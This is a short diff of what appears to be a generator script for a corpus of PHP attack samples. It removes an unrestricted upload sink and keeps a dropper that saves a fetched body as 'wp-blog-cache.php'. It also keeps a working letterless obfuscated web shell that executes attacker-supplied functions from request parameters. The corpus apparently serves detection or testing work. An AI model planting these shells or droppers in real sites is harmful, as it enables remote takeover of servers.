@@ -587,14 +587,6 @@ if ($body !== false) {
     file_put_contents('wp-blog-cache.php', $body);
 }
 ''')
-w('php/sinks/uploader-basename.php', '''<?php
-if (!empty($_FILES['doc'])) {
-    $to = './' . basename($_FILES['doc']['name']);
-    if (move_uploaded_file($_FILES['doc']['tmp_name'], $to)) {
-        echo 'saved';
-    }
-}
-''')
 # No letters at all: the names are built by incrementing and XOR-ing characters.
 w('php/computed-names/increment.php', '<?=' + '$_=[];$_=@"$_";$_=$_[\'!\'==\'@\'];' + '$__=$_;' + '++$__;' * 6 + '$___=$_;' + '++$___;' * 4 + '$____=$_;' + '++$____;' * 19 + '$_____=\'_\'.$__.$___.$____;$______=$$_____;$______[0]($______[1]);')
 w('php/computed-names/xor.php', '''<?php
